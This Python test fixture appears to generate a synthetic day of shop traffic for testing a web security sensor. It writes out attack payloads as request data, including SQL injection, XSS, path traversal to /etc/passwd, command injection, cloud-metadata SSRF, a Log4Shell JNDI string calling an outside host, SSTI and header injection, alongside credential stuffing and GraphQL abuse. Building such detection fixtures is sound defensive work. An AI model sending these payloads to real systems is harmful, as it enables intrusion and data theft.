"""A day of a shop as its mirror shows it: customers, an API, and people who try what they may not.

What is sent and answered is made here; a real sensor makes of it what the pages show.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

from scapy.packet import Packet

from tests.traffic import conversation, write_capture

DAY_S: Final = 86_400.0
BLOCK_S: Final = 300  # of the histories of what is usual: what is not comes in the one after
WEB, API, PAY, STATS = "shop.example", "api.shop.example", "pay.shop.example", "stats.shop.example"
GOODS: Final = ("anvil", "kettle", "lantern", "compass", "teapot", "blanket", "ladder", "candle", "basket", "whistle")
AGENTS: Final = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36",
    "ShopApp/4.2 (iPhone; iOS 17.5)",
    "ShopApp/4.1 (Android 14)",
)
PASSWD: Final = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
SPECIFICATION: Final[dict[str, Any]] = {
    "openapi": "3.0.3",
    "info": {"title": "Payments", "version": "2.1"},
    "components": {"securitySchemes": {"key": {"type": "apiKey", "in": "header", "name": "X-Key"}}},
    "paths": {
        "/payments": {
            "get": {
                "parameters": [{"name": "page", "in": "query", "required": True, "schema": {"type": "integer"}}],
                "responses": {"200": {"description": "payments"}},
            },
            "post": {
                "security": [{"key": []}],
                "requestBody": {
                    "required": True,
                    "content": {"application/json": {"schema": {"type": "object", "required": ["order"]}}},
                },
                "responses": {"201": {"description": "made"}},
            },
        },
        "/refunds/{id}": {
            "delete": {
                "parameters": [{"name": "id", "in": "path", "required": True, "schema": {"type": "integer"}}],
                "responses": {"204": {"description": "gone"}},
            }
        },
    },
}
CONTROLS: Final = (  # thresholds of a small shop, and its limits of single requests
    "[{name: pages-of-session, type: scraping, count: paths, by: session, window: 5m, threshold: 60},"
    " {name: rate-of-source, type: resource_consumption, count: requests, window: 10s, threshold: 100},"
    " {name: avatars, type: file_upload_violation, count: uploads, path: /v2/avatars, limit: 2000, threshold: 0},"
    " {name: depth, type: gql_depth, count: graphql, path: /graphql, limit: 6, threshold: 0},"
    " {name: aliases, type: gql_aliases, count: graphql, path: /graphql, limit: 4, threshold: 0},"
    " {name: batch, type: gql_docs_per_batch, count: graphql, path: /graphql, limit: 3, threshold: 0},"
    " {name: size, type: gql_doc_size, count: graphql, path: /graphql, limit: 3000, threshold: 0},"
    " {name: value, type: gql_value_size, count: graphql, path: /graphql, limit: 1000, threshold: 0},"
    " {name: schema, type: gql_introspection, count: graphql, path: /graphql, threshold: 0}]"
)
# A rule that is registered (a virtual patch), and one that is tried out.
PACK: Final = """type: vpatch
rules:
  - {id: own-legacy-export, title: The old export, why: It has a hole., severity: high, confidence: 0.9,
     patterns: [/v2/legacy/export], examples: {match: [/v2/legacy/export], no_match: [/v2/export]}}
  - {id: own-try-coupon, title: A coupon, why: Somebody guesses., severity: low, confidence: 0.9, experimental: true,
     patterns: [coupon-guess], examples: {match: [coupon-guess], no_match: [coupon]}}
"""
PIN: Final = "kanarie4711vogel"
Turn = tuple[int, bytes]


@dataclass(frozen=True, slots=True)
class Visit:
    """One connection, ``at_s`` seconds into the day."""

    at_s: float
    client: str
    turns: tuple[Turn, ...]
    step_s: float = 0.001

    def frames(self, start: float, port: int) -> list[Packet]:
        return conversation(self.turns, client=self.client, port=port, start=start + self.at_s, step=self.step_s)


def asked(host: str, target: str, method: str = "GET", body: Any = None, **headers: str) -> bytes:
    """Return a request; *body*: bytes, or a value to be sent as JSON."""
    raw = b"" if body is None else body if isinstance(body, bytes) else json.dumps(body).encode()
    named = {"Host": host, "User-Agent": AGENTS[0], "Accept": "*/*"}
    if raw:
        named |= {"Content-Type": "application/json", "Content-Length": str(len(raw))}
    named |= {name.replace("_", "-"): text for name, text in headers.items()}
    lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {text}" for name, text in named.items()), "", ""]
    return "\r\n".join(lines).encode() + raw


def told(body: Any = "ok", status: int = 200, media: str = "text/html", **headers: str) -> bytes:
    """Return a response; a *body* that is no text is sent as JSON."""
    raw = body.encode() if isinstance(body, str) else json.dumps(body).encode()
    media = media if isinstance(body, str) else "application/json"
    lines = [f"HTTP/1.1 {status} X", "Server: nginx", f"Content-Type: {media}", f"Content-Length: {len(raw)}"]
    lines += [f"{name.replace('_', '-')}: {text}" for name, text in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode() + raw


def visit(at_s: float, client: str, *exchanges: tuple[bytes, bytes], step_s: float = 0.001) -> Visit:
    return Visit(at_s, client, tuple(turn for pair in exchanges for turn in ((0, pair[0]), (1, pair[1]))), step_s)


def capture(path: Path, start: float, seed: int = 7) -> Path:
    """Write the day that begins at *start* (s since 1970, a multiple of BLOCK_S) to *path*."""
    drawn = random.Random(seed)
    visits = [*customers(drawn), *attackers(drawn), *insistent(), *unusual(), *differing(), *careless(), *ruled()]
    return write_capture(path, *(each.frames(start, 20_000 + number) for number, each in enumerate(visits)))


def customers(drawn: random.Random) -> Iterator[Visit]:
    """Yield what people do in a shop: look, sign in, order, pay."""
    for number in range(90):
        person = 4000 + number % 40
        headers = {"User_Agent": AGENTS[number % len(AGENTS)], "Cookie": f"sessionid={drawn.getrandbits(128):032x}"}
        bearer = {"User_Agent": headers["User_Agent"], "Authorization": f"Bearer {drawn.getrandbits(160):040x}"}
        one = drawn.choice(GOODS)
        order = 700_000 + number
        looks = [
            (asked(WEB, "/", **headers), told("<html>shop</html>")),
            (asked(WEB, f"/products/{one}-{drawn.randint(100, 999)}", **headers), told(f"<h1>{one}</h1>")),
            (asked(WEB, f"/search?q={drawn.choice(GOODS)}&page={drawn.randint(1, 4)}", **headers), told("<ul></ul>")),
        ]
        name = drawn.choice(("maria", "joris", "aysha", "piet", "lena", "omar"))
        customer = {"id": person, "name": name, "email": f"{name}{person}@mail.example", "phone": f"+3161234{person}"}
        item = {
            "id": order,
            "customer": person,
            "total": drawn.randint(10, 400) + 0.5,
            "state": drawn.choice(("new", "sent")),
        }
        calls = [
            (asked(API, f"/v2/customers/{person}", **bearer), told(customer)),
            (asked(API, "/v2/orders", "POST", {"item": one, "count": number % 3 + 1}, **bearer), told(item, 201)),
            (asked(API, f"/v2/orders/{order}", **bearer), told(item)),
            (asked(API, f"/v2/stock?item={one}", **bearer), told({"item": one, "left": drawn.randint(0, 90)})),
        ]
        at_s = min(max(drawn.gauss(0.6, 0.2), 0.01), 0.98) * DAY_S
        yield visit(at_s, f"203.0.113.{number % 200 + 1}", *looks[: drawn.randint(1, 3)])
        yield visit(at_s + 5, f"203.0.113.{number % 200 + 1}", *calls[: drawn.randint(2, 4)])


TRIED: Final[tuple[tuple[str, str, str, str, int], ...]] = (  # host, path, payload, what is answered, status
    (WEB, "/products?category=", "1' UNION SELECT login,password FROM users-- -", "no such category", 404),
    (WEB, "/products?category=", "1' OR '1'='1", "You have an error in your SQL syntax near ''1'='1' at line 1", 500),
    (WEB, "/search?q=", "<script>alert(document.cookie)</script>", "nothing found", 200),
    (WEB, "/search?q=", '"><img src=x onerror=alert(1)>', '<p>"><img src=x onerror=alert(1)></p>', 200),
    (WEB, "/download?file=", "../../../../etc/passwd", PASSWD, 200),
    (WEB, "/download?file=", "..%252f..%252fetc/shadow", "forbidden", 403),
    (API, "/v2/export?name=", "orders; cat /etc/passwd", "bad name", 400),
    (API, "/v2/preview?url=", "http://169.254.169.254/latest/meta-data/iam/", "refused", 403),
    (API, "/v2/stock?item=", "${jndi:ldap://203.0.113.66/a}", "no such item", 404),
    (API, "/v2/stock?item=", "{{7*7}}{{config.items()}}", "no such item", 404),
    (PAY, "/callback?to=", "//evil.example/%0d%0aSet-Cookie:%20a=1", "", 302),
)  # fmt: skip


def attackers(drawn: random.Random) -> Iterator[Visit]:
    """Yield single requests that show an attack by themselves, from few sources, in bursts."""
    bursts = [drawn.uniform(0.05, 0.97) * DAY_S for _ in range(9)]
    for number in range(110):
        host, path, payload, answer, status = TRIED[min(int(drawn.expovariate(0.3)), len(TRIED) - 1)]
        target = path + quote(payload, safe="/%")
        at_s = min(drawn.choice(bursts) + drawn.uniform(0, 1500), DAY_S - 60)
        agent = drawn.choice((AGENTS[0], AGENTS[1], "curl/8.5.0", "sqlmap/1.8.4#stable (https://sqlmap.org)"))
        client = drawn.choice(("198.51.100.7", "198.51.100.23", "192.0.2.44", "192.0.2.181", "198.51.100.77"))
        yield visit(at_s, client, (asked(host, target, User_Agent=agent), told(answer, status)))


def insistent() -> Iterator[Visit]:
    """Yield what is an attack by how often it is done, each kind from a source of its own."""
    at_s = 0.9 * DAY_S
    wrong, right = told({"error": "wrong"}, 401), told({"ok": 1})
    login = [(asked(WEB, "/login", "POST", {"user": "jo", "password": f"summer{n}!"}), wrong) for n in range(40)]
    hidden = [(asked(WEB, f"/inner/{GOODS[n % 10]}{n}"), told("no", 404)) for n in range(45)]
    others = [(asked(API, f"/v2/invoices/{9000 + n}"), told({"id": 9000 + n, "paid": True})) for n in range(130)]
    people = [(asked(WEB, "/reset", "POST", {"email": f"user{n}@mail.example"}), right) for n in range(45)]
    leaked = ("password", "123456", "qwerty", "letmein", "dragon", "monkey", "football")
    stuffed = [
        (asked(API, "/v2/token", "POST", {"user": f"shopper{n}", "password": leaked[n % 7]}), wrong if n else right)
        for n in range(9)
    ]
    cookie = {"Cookie": "sessionid=0123456789abcdef0123456789abcdef"}
    robots = [(asked(WEB, "/account", User_Agent=f"agent-{n}/1.0", **cookie), told("<html></html>")) for n in range(9)]
    pages = [(asked(WEB, f"/catalogue/{GOODS[n % 10]}/{n}-of-all", **cookie), told("<html></html>")) for n in range(90)]
    probes = (
        "<script>alert(7)</script>",
        "<svg onload=alert(8)>",
        "<img src=x onerror=alert(9)>",
        "' or 1=1-- -",
        "../../etc/hosts",
    )
    payloads = [(asked(API, f"/v2/find?text={quote(text)}"), told("no", 404)) for text in probes]
    rate = [(asked(API, "/v2/rates"), right) for _ in range(150)]
    upload = [(asked(API, "/v2/avatars", "PUT", b"\x89PNG" + b"x" * 4000, Content_Type="image/png"), right)]
    documents: tuple[Any, ...] = (
        {"query": "{a{b{c{d{e{f{g{h{i}}}}}}}}}"},
        {"query": "{a:x b:x c:x d:x e:x f:x}"},
        [{"query": "{order}"}] * 5,
        {"query": "{" + "order name " * 300 + "}"},
        {"query": "query($q:String){find(q:$q)}", "variables": {"q": "lamp " * 250}},
        {"query": "{__schema{types{name}}}"},
    )
    graphs = [(asked(API, "/graphql", "POST", document), right) for document in documents]
    graphs.append((asked(API, "/graphql?debug=1", "POST", {"query": "{order}"}), right))
    rights = [
        (asked(API, f"/v2/profiles/{n}", "PUT", {"city": "Utrecht"}), told({"id": n, "city": "Utrecht", "role": "customer"}))
        for n in range(30)
    ]
    rights.append((asked(API, "/v2/profiles/31", "PUT", {"city": "Utrecht", "role": "admin"}), right))
    kinds = (login, hidden, others, people, stuffed, robots, pages, payloads, rate, upload, graphs, rights)
    for number, exchanges in enumerate(kinds):
        yield visit(at_s + 600 * number, f"198.18.0.{number + 1}", *exchanges)


def unusual() -> Iterator[Visit]:
    """Yield somewhat more than five minutes of reports as they always are, then larger, slower and more ones."""
    at_s = 57.0 * BLOCK_S
    small = (asked(STATS, "/report"), told({"ok": True}))
    for number in range(-1, BLOCK_S // 10):
        yield visit(at_s + number * 10, f"203.0.113.{number + 2}", *[small] * 10, step_s=0.01)
    large = (asked(STATS, "/report"), told("x" * 70_000))
    yield visit(at_s + BLOCK_S + 1, "198.18.1.1", *[large] * 25, step_s=0.0005)
    for number in range(25):
        yield visit(at_s + BLOCK_S + 1 + number, "198.18.1.2", small, step_s=1.3)
    for number in range(20):
        yield visit(at_s + BLOCK_S + 101 + number / 100, f"198.18.2.{number + 1}", *[small] * 60)


def ruled() -> Iterator[Visit]:
    """Yield what own rules are about: a virtual patch, a rule that is tried out, and what people have had ignored."""
    at_s = 0.85 * DAY_S
    for number, (target, client) in enumerate(
        (
            ("/v2/legacy/export?all=1", "192.0.2.31"),
            ("/v2/cart?code=coupon-guess", "192.0.2.32"),
            ("/v2/cart?code=coupon-guess2", "192.0.2.32"),
            ("/v2/editor?text=1'+union+select+1,2--+-", "192.0.2.33"),
            ("/v2/other?text=1'+union+select+1,2--+-", "192.0.2.33"),
        )
    ):
        yield visit(at_s + number * 30, client, (asked(API, target), told("no", 404)))


def differing() -> Iterator[Visit]:
    """Yield what is beside SPECIFICATION, a kind of violation each, and what is as it says."""
    for number in range(12):
        yield visit(
            0.3 * DAY_S + number * 3600,
            f"203.0.113.{number + 20}",
            (asked(PAY, f"/payments?page={number}"), told({"next": 2})),
        )
    key = {"X_Key": "k1"}
    violations = (
        asked(PAY, "/payments/internal/debug"),
        asked(PAY, "/payments?n=1"),
        asked(PAY, "/payments?page=1&debug=yes"),
        asked(PAY, "/payments?page=first"),
        asked(PAY, "/payments", "POST", {"order": 1}),
        asked(PAY, "/payments", "POST", b'{"order":', **key),
    )
    for number, request in enumerate(violations):
        yield visit(0.8 * DAY_S + number * 60, "192.0.2.90", (request, told("bad", 400)))


def careless() -> Iterator[Visit]:
    """Yield what a server does that it should not, and a value to be masked beside an attack."""
    at_s = 0.5 * DAY_S
    trace = "Traceback (most recent call last):\n  File \"/srv/shop/cart.py\", line 8, in total\nKeyError: 'sku'\n"
    for number, (request, response) in enumerate(
        (
            (asked(API, "/v2/feed?access_token=8f14e45fceea167a5a36dedd4bea2543"), told({"items": []})),
            (asked(WEB, "/cart/total"), told(trace, 500, "text/plain")),
            (
                asked(WEB, "/files/"),
                told("<html><title>Index of /files/</title><h1>Index of /files/</h1><a href='../'>../</a></html>"),
            ),
            (asked(WEB, "/.git/config"), told("[core]\n\trepositoryformatversion = 0\n\tbare = false\n", 200, "text/plain")),
            (asked(WEB, f"/find?pin={PIN}&q=1'+union+select+1,2--+-"), told(f"nothing for {PIN}")),
            (asked(WEB, "/enter"), told("<html></html>", Set_Cookie="sessionid=77d1f2b0c3; Path=/")),
        )
    ):
        yield visit(at_s + number * 700, f"203.0.113.{number + 90}", (request, response))
